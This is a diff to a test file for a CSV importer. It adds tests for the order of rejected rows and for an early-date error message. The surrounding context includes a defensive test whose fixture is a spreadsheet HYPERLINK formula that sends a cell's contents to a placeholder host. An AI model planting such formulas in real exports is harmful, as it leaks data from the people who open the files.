@@ -144,6 +144,22 @@ it('writes rejected rows with line, field, value and reason beside the input, an
   expect(existsSync(`${file}.rejected.csv`)).toBe(false);
 });
 
+it('writes rejected rows in the order of their lines, whoever found their faults', async () => {
+  const file = write(heading + row('1', '7') + row('2', '8', 'six') + row('3', '9') + row('4', '9', 'six'));
+  const door = doorOf(new Map(), () => ({ problem: { status: 409, detail: 'no' } }));
+  await importFile(door, importing(file));
+  const lines = readFileSync(`${file}.rejected.csv`, 'utf8').split('\r\n').slice(1, 5);
+  expect(lines.map((line) => line.split(',')[0])).toEqual(['2', '3', '4', '5']);
+});
+
+it('says in the form of the file that a time is too early', async () => {
+  const file = write(heading + row('1', '7').replace('2011', '0001'));
+  await importFile(doorOf(new Map()), importing(file));
+  expect(readFileSync(`${file}.rejected.csv`, 'utf8')).toContain(
+    'is no time from 1900 on in the form YYYY-MM-DD HH:mm:ss',
+  );
+});
+
 it('writes no rejected value as a formula that a spreadsheet would run, and alters none that is a number', async () => {
   const formula = '"=HYPERLINK(""http://x.invalid/?""&A1,""open"")"';
   const file = write(heading + row('1', '7', formula) + row('2', '7', '-1.5'));
